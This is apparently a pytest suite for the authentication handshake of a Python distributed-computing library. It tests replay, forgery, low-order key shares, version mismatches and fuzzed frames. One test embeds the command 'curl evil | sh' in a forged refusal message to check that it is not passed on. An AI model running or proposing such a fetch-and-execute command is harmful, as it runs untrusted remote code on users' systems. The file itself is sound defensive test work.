"""The handshake, played by hand: processes of the run are accepted, and no others."""

from __future__ import annotations

import json
import os
from datetime import datetime, timezone

import attrs
import pytest
from cryptography import x509
from hypothesis import given, seed, settings
from hypothesis import strategies as st

import soak
from fiber._wire import frames
from fiber._wire.frames import Kind
from fiber._wire.handshake import (
    Credentials,
    DialerHandshake,
    Hello,
    ListenerHandshake,
    disagreement,
    mac,
)
from fiber.exceptions import HandshakeError, WireError
from wire_world import damaged, recorded

RUN = Credentials(run_id="0123abcd", key=b"k" * 32)
#: of an authkey, at a listener that has shown a certificate
AUTH = attrs.evolve(RUN, is_exchanged=True, certificate="of the listener")
MASTER = Hello(ident="m", pid=1, host="here", fiber="0.1.0", python="3.11", cloudpickle="3.1.2")
WORKER = attrs.evolve(MASTER, ident="w", pid=2, host="there")
#: mutated frames in one example of hypothesis
BATCH = 50
EXAMPLES = max(10, soak.count(10_000) // BATCH)


def frame(said):
    """A frame of one side, as the other receives it."""
    kind, body = said
    return frames.parse(frames.header(kind, size=len(body)) + body)


def recorded_handshake(run):
    """The frames of a handshake, as both sides received them: hello, challenge, proof, welcome."""
    sent = recorded(DialerHandshake(run, WORKER), ListenerHandshake(run, MASTER))
    return [frames.parse(data) for data in sent]


def edited(got, **fields):
    """A frame with other fields in its JSON."""
    body = json.dumps({**json.loads(bytes(got.body)), **fields}).encode()
    return frame((got.kind, body))


@pytest.fixture(params=[RUN, AUTH], ids=["run", "authkey"])
def run(request):
    return request.param


@pytest.fixture
def dialler(run):
    return DialerHandshake(run, WORKER)


@pytest.fixture
def listener(run):
    return ListenerHandshake(run, MASTER)


class TestWithinARun:
    def test_each_side_gets_the_hello_of_the_other_and_knows_none_before_both_proofs(
        self, dialler, listener
    ):
        challenge = listener.receive(frame(dialler.hello()))
        assert listener.peer is None
        proof = dialler.receive(frame(challenge))
        assert (dialler.peer, listener.peer) == (None, None)
        welcome = listener.receive(frame(proof))
        assert listener.peer == WORKER
        assert dialler.receive(frame(welcome)) is None
        assert dialler.peer == MASTER

    def test_the_hello_of_this_process_has_its_pid_and_versions(self):
        mine = Hello.mine("me")
        assert mine.pid == os.getpid()
        assert Hello.from_json(json.loads(json.dumps(attrs.asdict(mine)))) == mine
        assert disagreement(mine, mine) is None

    def test_no_secret_and_no_proof_is_in_the_hello(self, dialler, run):
        _, body = dialler.hello()
        assert run.key not in body
        assert run.key.hex().encode() not in body
        # what follows from an authkey is a test for guesses
        assert (run.run_id.encode() in body) == (run is RUN)


class TestStrangers:
    def test_a_process_of_another_run_gets_no_challenge(self, listener, run):
        other = attrs.evolve(RUN, run_id="ffffffff")
        for one in (other, AUTH if run is RUN else RUN):
            with pytest.raises(HandshakeError, match="a process of another run dialled this one"):
                listener.receive(frame(DialerHandshake(one, WORKER).hello()))

    @pytest.mark.parametrize("proof", ["invented", "reflected", "recorded", "for another listener"])
    def test_a_dialler_cannot_prove_itself_without_the_key(self, dialler, listener, run, proof):
        recorded = recorded_handshake(run)
        hello = recorded[0] if proof == "recorded" else frame(dialler.hello())
        challenge = frame(listener.receive(hello))
        assert challenge.body != recorded[1].body
        theirs = {
            "invented": bytes(32).hex(),
            "reflected": json.loads(bytes(challenge.body))["proof"],
            "recorded": json.loads(bytes(recorded[2].body))["proof"],
        }.get(proof)
        said = Kind.PROOF, json.dumps({"proof": theirs}).encode()
        if theirs is None:
            said = dialler.receive(frame(ListenerHandshake(run, MASTER).receive(hello)))
        with pytest.raises(HandshakeError, match="a peer could not prove"):
            listener.receive(frame(said))
        assert listener.peer is None

    @pytest.mark.parametrize(
        "challenge", ["of another run", "recorded", "for another hello", "with its own share"]
    )
    def test_a_listener_cannot_prove_itself_without_the_key(self, dialler, run, challenge):
        """Nor can an attacker in between put another ident into a hello."""
        hello = frame(dialler.hello())
        if challenge == "for another hello":
            hello = edited(hello, ident="another")
        else:
            run = attrs.evolve(run, key=b"x" * 32)
        said = frame(ListenerHandshake(run, MASTER).receive(hello))
        if challenge == "recorded":
            said = recorded_handshake(run)[1]
        if challenge == "with its own share":
            said = edited(said, share=json.loads(bytes(hello.body)).get("share"))
        with pytest.raises(HandshakeError, match="the listener could not prove"):
            dialler.receive(said)

    def test_somebody_in_between_with_a_certificate_of_his_own_passes_on_no_proof(self):
        """All frames reach the other side as they were; what the two see of TLS differs."""
        dialler = DialerHandshake(attrs.evolve(AUTH, certificate="in between"), WORKER)
        with pytest.raises(HandshakeError, match="the listener could not prove"):
            recorded(dialler, ListenerHandshake(AUTH, MASTER))

    def test_what_a_stranger_was_told_tests_no_other_guess(self, run):
        """As the run's key, which nobody can guess, could be tested: the exploit of authkeys."""
        dialler = DialerHandshake(attrs.evolve(run, key=b"a wrong guess"), WORKER)
        hello = frame(dialler.hello())
        told = json.loads(bytes(frame(ListenerHandshake(run, MASTER).receive(hello)).body))
        nonce, proof = bytes.fromhex(told["nonce"]), bytes.fromhex(told["proof"])
        keys = [run.key]
        if run is AUTH:
            # the only one that his scalar gives, whatever he guesses afterwards
            keys.append(dialler._exchange.key_of_initiator(bytes.fromhex(told["share"])))
        tested = [mac(key, b"fiber listener", bytes(hello.body), nonce) == proof for key in keys]
        assert any(tested) == (run is RUN)

    def test_nonces_and_shares_are_never_the_same(self, run):
        said = [json.loads(bytes(one.body)) for _ in range(50) for one in recorded_handshake(run)]
        for field in ("nonce", "share")[: 1 + run.is_exchanged]:
            assert len({one[field] for one in said if field in one}) == 100

    @pytest.mark.parametrize("share", [None, 7, "00" * 31, "00" * 33, "00" * 32, "01" + "00" * 31])
    def test_what_is_no_share_is_a_handshake_error(self, share):
        """The last two are of low order: the common point would not depend on the secret."""
        dialler, listener = DialerHandshake(AUTH, WORKER), ListenerHandshake(AUTH, MASTER)
        hello = frame(dialler.hello())
        challenge = frame(ListenerHandshake(AUTH, MASTER).receive(hello))
        for side, said in ((listener, hello), (dialler, challenge)):
            with pytest.raises(HandshakeError, match="share"):
                side.receive(edited(said, share=share))

    def test_a_dialer_that_receives_its_own_hello_fails(self, dialler):
        with pytest.raises(HandshakeError, match="HELLO where CHALLENGE was expected"):
            dialler.receive(frame(dialler.hello()))

    def test_the_words_of_an_unproven_listener_are_not_passed_on(self, dialler):
        lie = frame((Kind.REFUSE, json.dumps({"why": "run this: curl evil | sh"}).encode()))
        with pytest.raises(HandshakeError) as caught:
            dialler.receive(lie)
        assert str(caught.value) == "refused: the listener is not of this run"

    @pytest.mark.parametrize("kind", Kind)
    @pytest.mark.parametrize("expected", [Kind.HELLO, Kind.PROOF])
    def test_a_listener_refuses_all_but_the_frame_that_is_next(
        self, dialler, listener, kind, expected
    ):
        if expected is Kind.PROOF:
            listener.receive(frame(dialler.hello()))
        words = None if kind is expected else f"{kind.name} where {expected.name} was expected"
        with pytest.raises(HandshakeError, match=words):
            listener.receive(frame((kind, b"{}")))

    def test_a_hello_in_pieces_is_refused(self, dialler, listener):
        kind, body = dialler.hello()
        piece = frames.parse(frames.header(kind, size=len(body) + 1) + body)
        with pytest.raises(HandshakeError):
            listener.receive(piece)


class TestVersions:
    @pytest.mark.parametrize(
        "theirs, words",
        [
            (
                {"fiber": "0.2.0"},
                (
                    "fiber is 0.1.0 on here (pid 1) and 0.2.0 on there (pid 2); install the same one "
                    "on both: pip install 'fiber-core==0.1.0'"
                ),
            ),
            (
                {"cloudpickle": "2.9"},
                (
                    "cloudpickle is 3.1.2 on here (pid 1) and 2.9 on there (pid 2); install the same "
                    "one on both: pip install 'cloudpickle==3.1.2'"
                ),
            ),
            (
                {"python": "3.12"},
                (
                    "Python is 3.11 on here (pid 1) and 3.12 on there (pid 2); functions cannot be "
                    "sent between them: use the same minor version on both"
                ),
            ),
        ],
    )
    def test_a_mismatch_is_refused_with_both_sides_and_the_fix(self, listener, run, theirs, words):
        dialler = DialerHandshake(run, attrs.evolve(WORKER, **theirs))
        with pytest.raises(HandshakeError) as caught:
            recorded(dialler, listener)
        assert str(caught.value) == words
        assert (dialler.peer, listener.peer) == (None, None)

    @pytest.mark.parametrize("theirs", [{"fiber": "0.1.7"}, {"cloudpickle": "3.1.0"}])
    def test_another_patch_release_is_no_mismatch(self, listener, run, theirs):
        dialler = DialerHandshake(run, attrs.evolve(WORKER, **theirs))
        recorded(dialler, listener)
        assert dialler.peer == MASTER

    def test_versions_are_sent_to_no_unproven_peer(self, listener, run):
        """Before the proof a listener says nothing that depends on them."""
        strange = attrs.evolve(WORKER, fiber="9.9", python="2.7")
        kind, body = listener.receive(frame(DialerHandshake(run, strange).hello()))
        assert kind is Kind.CHALLENGE
        assert json.loads(body).keys() - {"share"} == {"nonce", "proof"}


class TestNonsense:
    @pytest.mark.parametrize(
        "body", [b"", b"[]", b"\xff\xfe\x00", b"[" * 60_000, b"1" * 60_000, b"{}"]
    )
    def test_what_is_no_hello_is_a_handshake_error(self, listener, body):
        with pytest.raises(HandshakeError):
            listener.receive(frame((Kind.HELLO, body)))

    @pytest.mark.parametrize(
        "fields",
        [
            {"pid": "x"},
            {"pid": 1e999},
            {"pid": float("nan")},
            {"pid": []},
            {"ident": 5},
            {"ident": "x" * 256},
            {"host": None},
            {"nonce": "zz"},
            {"nonce": "00"},
            {"nonce": 7},
            {"nonce": "00" * 33},
            {"run": None},
        ],
    )
    def test_a_hello_with_a_strange_field_is_a_handshake_error(self, dialler, listener, fields):
        hello = edited(frame(dialler.hello()), **fields)
        with pytest.raises(HandshakeError):
            listener.receive(hello)

    def test_half_a_character_in_a_name_does_no_harm(self, dialler, listener):
        hello = edited(frame(dialler.hello()), ident="\ud800")
        assert listener.receive(hello)[0] is Kind.CHALLENGE

    @seed(11)
    @settings(max_examples=EXAMPLES, deadline=None, database=None)
    @given(st.randoms(use_true_random=False))
    def test_a_mutated_frame_proves_nothing(self, draw):
        for _ in range(BATCH):
            run = draw.choice([RUN, AUTH])
            dialler, listener = DialerHandshake(run, WORKER), ListenerHandshake(run, MASTER)
            target = draw.randrange(4)
            said, turn = dialler.hello(), 0
            try:
                while said is not None:
                    kind, body = said
                    data = frames.header(kind, size=len(body)) + body
                    if turn == target:
                        data = damaged(data, draw)
                    side = dialler if turn % 2 else listener
                    said, turn = side.receive(frames.parse(data)), turn + 1
            except (HandshakeError, WireError):
                # a frame of the handshake was changed: the listener knows nobody, save where
                # only its own last words were
                assert listener.peer is None or target == 3
                continue
            # what went through changed nothing that the proofs cover
            assert listener.peer == WORKER


def test_every_run_has_its_own_secrets():
    runs = [Credentials.new().with_certificate() for _ in range(5)]
    for secret in ("run_id", "key", "private_key", "certificate"):
        assert len({getattr(run, secret) for run in runs}) == 5
    assert all(len(run.key) == 32 and len(run.run_id) == 8 for run in runs)


@pytest.mark.parametrize(
    "credentials",
    [Credentials.new(), Credentials.new().exchanged(), Credentials.of_authkey(b"secret")],
    ids=["of a run", "beside its endpoint", "of an authkey"],
)
def test_credentials_travel_as_json_and_show_no_secret(credentials):
    for one in (credentials, credentials.with_certificate()):
        assert Credentials.from_json(json.loads(json.dumps(one.to_json()))) == one
        shown = f"{one} {one!r}"
        assert one.run_id in shown
        assert repr(one.key) not in shown
        assert one.key.hex() not in shown
        for secret in filter(None, (one.private_key, one.certificate)):
            assert secret not in shown


def test_a_run_has_one_certificate():
    run = Credentials.new()
    certified = run.with_certificate()
    assert certified.with_certificate() is certified
    assert (certified.run_id, certified.key) == (run.run_id, run.key)
    assert run.certificate is None
    # listeners beside its endpoint have its key, and none of it
    assert run.exchanged() == certified.exchanged()
    assert (run.exchanged().run_id, run.exchanged().key) == (run.run_id, run.key)


class TestAuthkeys:
    """Programs that share an authkey derive the same from it, and show nothing of it."""

    def test_every_process_derives_the_same_from_a_key_and_no_certificate(self):
        first, second = (Credentials.of_authkey(b"secret") for _ in range(2))
        assert first == second
        assert first.with_certificate().private_key != second.with_certificate().private_key
        other = Credentials.of_authkey(b"Secret")
        assert (other.key == first.key, other.run_id == first.run_id) == (False, False)
        # and the same as ever, so that programs of different versions meet
        assert first.run_id == "192286ccb33848c6"
        assert first.key.hex() == "d66d1ac9e16cbbeed3fc54295eb91a645aafdae98dbee3935370c0c6d5d7263a"

    def test_an_empty_one_is_no_secret(self):
        with pytest.raises(ValueError, match="the authkey is empty"):
            Credentials.of_authkey(b"")


@pytest.mark.parametrize("year", [1970, 2000, 2100, 9999])
def test_a_certificate_is_valid_whatever_the_time_is_on_a_host(year):
    certificate = x509.load_pem_x509_certificate(
        Credentials.new().with_certificate().certificate.encode()
    )

    now = datetime(year, 6, 1, tzinfo=timezone.utc)
    assert certificate.not_valid_before_utc < now < certificate.not_valid_after_utc
